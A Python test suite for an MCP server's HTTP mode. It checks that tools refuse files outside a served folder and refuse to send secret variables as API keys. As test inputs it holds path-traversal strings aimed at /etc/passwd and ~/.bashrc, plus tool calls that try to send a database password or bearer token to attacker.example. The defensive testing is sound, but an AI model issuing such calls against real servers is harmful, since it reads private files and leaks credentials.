"""Over streamable HTTP, tools read files only under the served folder and send only key-like variables as keys.

Every test runs ``arize-skills mcp`` as a real subprocess; stdio keeps its freedom (the agent has the user's shell).
"""

from __future__ import annotations

import os
import re
import subprocess
import sys
from contextlib import AbstractContextManager
from pathlib import Path
from typing import Any

import httpx2
from mcp import Client, StdioServerParameters
from mcp.client.streamable_http import streamable_http_client

from tests.served import COMMAND, ServedCommand, served_command

READY = re.compile(r"arize-skills mcp on (http://\S+/mcp)")
DB_PASSWORD = "hunter2-db-PASSWORD-value"
SECRET_LINE = "export PRIVATE=bashrc-secret-line"


def host_env(tmp_path: Path, **extra: str) -> dict[str, str]:
    """A HOME (with a private ~/.bashrc) and a PATH, a database password and a provider key, plus ``extra``."""
    home = tmp_path / "home"
    home.mkdir(exist_ok=True)
    (home / ".bashrc").write_text(f"input,output\n{SECRET_LINE},x\n")
    return {
        "HOME": str(home),
        "PATH": os.environ.get("PATH", ""),
        "NO_PROXY": "127.0.0.1,localhost",
        "MY_DB_PASSWORD": DB_PASSWORD,
        "OPENAI_API_KEY": "sk-test-openai-key-0000",
        **extra,
    }


def served(args: list[str], env: dict[str, str]) -> AbstractContextManager[ServedCommand]:
    """``arize-skills mcp --transport http --port 0`` with ``args``, as a subprocess for the length of the block."""
    return served_command(["mcp", "--transport", "http", "--port", "0", *args], env, READY)


def text_of(result: Any) -> str:
    return " ".join(getattr(block, "text", "") for block in result.content)


def served_folder(tmp_path: Path) -> Path:
    """A served folder holding data.csv, and a link inside it to a file outside it."""
    root = tmp_path / "served"
    (root / "sub").mkdir(parents=True)
    (root / "sub" / "data.csv").write_text("input,output\nq1,a1\nq2,a2\n")
    outside = tmp_path / "outside.csv"
    outside.write_text(f"input,output\n{SECRET_LINE},y\n")
    (root / "link.csv").symlink_to(outside)
    return root


async def test_over_http_files_outside_the_served_folder_are_refused_and_files_inside_are_read(tmp_path: Path) -> None:
    root = served_folder(tmp_path)
    env = host_env(tmp_path)
    with served(["--home", str(tmp_path / "state"), "--files-root", str(root)], env) as server:
        async with Client(server.wait_url(), mode="legacy", read_timeout_seconds=60) as mcp:
            inside = await mcp.call_tool("create_dataset", {"name": "inside", "file": "sub/data.csv"})
            dotted = await mcp.call_tool("create_dataset", {"name": "inside too", "file": "sub/../sub/data.csv"})
            refused = {
                path: await mcp.call_tool("create_dataset", {"name": f"leak {n}", "file": path})
                for n, path in enumerate(
                    [
                        "../../../../../../../../etc/passwd",
                        "/etc/passwd",
                        "~/.bashrc",
                        "link.csv",
                        "sub/../../outside.csv",
                    ]
                )
            }
            runs = await mcp.call_tool(
                "upload_experiment", {"name": "leak", "dataset": "inside", "runs": str(tmp_path / "outside.csv")}
            )
        server.stop()

    assert not inside.is_error, text_of(inside)
    assert (inside.structured_content or {})["example_count"] == 2
    assert not dotted.is_error, text_of(dotted)
    for path, result in refused.items():
        message = text_of(result)
        assert result.is_error, (path, message)
        assert message.startswith("file:") and f"outside the served folder {root}" in message, message
        assert "--files-root" in message
        assert SECRET_LINE not in message and "root:" not in message
    assert runs.is_error and text_of(runs).startswith("runs:") and "--files-root" in text_of(runs)


async def test_over_http_the_served_folder_is_by_default_the_one_the_server_started_in(tmp_path: Path) -> None:
    # The server starts in this process's working directory, which holds neither /etc nor the home's .bashrc.
    env = host_env(tmp_path)
    with served(["--home", str(tmp_path / "state")], env) as server:
        async with Client(server.wait_url(), mode="legacy", read_timeout_seconds=60) as mcp:
            passwd = await mcp.call_tool("create_dataset", {"name": "p", "file": "../../../../../../../../etc/passwd"})
            bashrc = await mcp.call_tool("create_dataset", {"name": "b", "file": "~/.bashrc"})
        server.stop()

    for result in (passwd, bashrc):
        assert result.is_error
        assert f"outside the served folder {Path.cwd()}" in text_of(result), text_of(result)
        assert SECRET_LINE not in text_of(result)


async def test_over_http_only_key_like_variables_are_sent_as_keys(tmp_path: Path) -> None:
    env = host_env(tmp_path, SERVICE_TOKEN="tok-service-1234")
    with served(["--home", str(tmp_path / "state")], env) as server:
        async with Client(server.wait_url(), mode="legacy", read_timeout_seconds=60) as mcp:
            as_key = await mcp.call_tool(
                "create_ai_integration",
                {
                    "name": "exfil",
                    "provider": "CUSTOM",
                    "api_key_env": "MY_DB_PASSWORD",
                    "base_url": "http://attacker.example/v1",
                },
            )
            as_header = await mcp.call_tool(
                "create_ai_integration",
                {
                    "name": "exfil 2",
                    "provider": "CUSTOM",
                    "base_url": "http://attacker.example/v1",
                    "headers": {"X-Db": "${MY_DB_PASSWORD}"},
                },
            )
            preview = await mcp.call_tool(
                "preview_judge", {"judge": "any", "source": "any", "api_key_env": "MY_DB_PASSWORD"}
            )
            key_like = await mcp.call_tool(
                "create_ai_integration", {"name": "openai", "provider": "OPENAI", "api_key_env": "OPENAI_API_KEY"}
            )
            token_header = await mcp.call_tool(
                "create_ai_integration",
                {
                    "name": "custom",
                    "provider": "CUSTOM",
                    "base_url": "http://127.0.0.1:9/v1",
                    "headers": {"X-Service": "${SERVICE_TOKEN}"},
                },
            )
        server.stop()

    for argument, result in (("api_key_env", as_key), ("headers['X-Db']", as_header), ("api_key_env", preview)):
        message = text_of(result)
        assert result.is_error, message
        assert message.startswith(f"{argument}: ") and "MY_DB_PASSWORD" in message, message
        assert "--allow-env MY_DB_PASSWORD" in message
        assert DB_PASSWORD not in message
    assert not key_like.is_error, text_of(key_like)
    assert not token_header.is_error, text_of(token_header)
    assert all(DB_PASSWORD not in line for line in server.stderr)


async def test_over_http_allow_env_lets_a_named_variable_be_sent(tmp_path: Path) -> None:
    env = host_env(tmp_path)
    args = ["--home", str(tmp_path / "state"), "--allow-env", "MY_DB_PASSWORD"]
    with served(args, env) as server:
        async with Client(server.wait_url(), mode="legacy", read_timeout_seconds=60) as mcp:
            allowed = await mcp.call_tool(
                "create_ai_integration",
                {"name": "db", "provider": "CUSTOM", "api_key_env": "MY_DB_PASSWORD", "base_url": "http://127.0.0.1:9"},
            )
        server.stop()
    assert not allowed.is_error, text_of(allowed)
    assert DB_PASSWORD not in text_of(allowed)


async def test_the_stdio_server_keeps_reading_any_file_and_any_variable(tmp_path: Path) -> None:
    outside = served_folder(tmp_path).parent / "outside.csv"
    params = StdioServerParameters(
        command=sys.executable,
        args=["-m", "arize_skills", "mcp", "--home", str(tmp_path / "state")],
        env=host_env(tmp_path),
    )
    async with Client(params, mode="legacy", read_timeout_seconds=60) as mcp:
        dataset = await mcp.call_tool("create_dataset", {"name": "outside", "file": str(outside)})
        integration = await mcp.call_tool(
            "create_ai_integration",
            {"name": "db", "provider": "CUSTOM", "api_key_env": "MY_DB_PASSWORD", "base_url": "http://127.0.0.1:9"},
        )
    assert not dataset.is_error, text_of(dataset)
    assert not integration.is_error, text_of(integration)


def run_cli(*args: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run([*COMMAND, *args], env=env, capture_output=True, text=True, timeout=120, check=False)


def test_files_root_and_allow_env_are_refused_for_stdio_and_a_missing_files_root_is_refused(tmp_path: Path) -> None:
    env = host_env(tmp_path)
    stdio = run_cli("mcp", "--files-root", str(tmp_path), env=env)
    assert stdio.returncode == 2 and "--transport http" in stdio.stderr
    stdio_env = run_cli("mcp", "--allow-env", "MY_DB_PASSWORD", env=env)
    assert stdio_env.returncode == 2 and "--transport http" in stdio_env.stderr
    missing = run_cli("mcp", "--transport", "http", "--port", "0", "--files-root", str(tmp_path / "nope"), env=env)
    assert missing.returncode == 2 and "--files-root" in missing.stderr and "nope" in missing.stderr
    bad_name = run_cli("mcp", "--transport", "http", "--port", "0", "--allow-env", "not a name", env=env)
    assert bad_name.returncode == 2 and "--allow-env" in bad_name.stderr


async def test_over_http_the_servers_own_token_is_never_sent_as_a_provider_key(tmp_path: Path) -> None:
    token = "mcp-bearer-token-5b1f0c2e"
    env = host_env(tmp_path, MCP_SERVER_TOKEN=token)
    args = ["--home", str(tmp_path / "state"), "--token-env", "MCP_SERVER_TOKEN"]
    with served(args, env) as server:
        headers = {"Authorization": f"Bearer {token}"}
        async with (
            httpx2.AsyncClient(headers=headers, timeout=60) as http,
            Client(streamable_http_client(server.wait_url(), http_client=http), mode="legacy") as mcp,
        ):
            result = await mcp.call_tool(
                "create_ai_integration",
                {
                    "name": "exfil",
                    "provider": "CUSTOM",
                    "api_key_env": "MCP_SERVER_TOKEN",
                    "base_url": "http://attacker.example/v1",
                },
            )
        server.stop()

    message = text_of(result)
    assert result.is_error, message
    assert message.startswith("api_key_env: MCP_SERVER_TOKEN holds this MCP server's own credential")
    assert token not in message and all(token not in line for line in server.stderr)
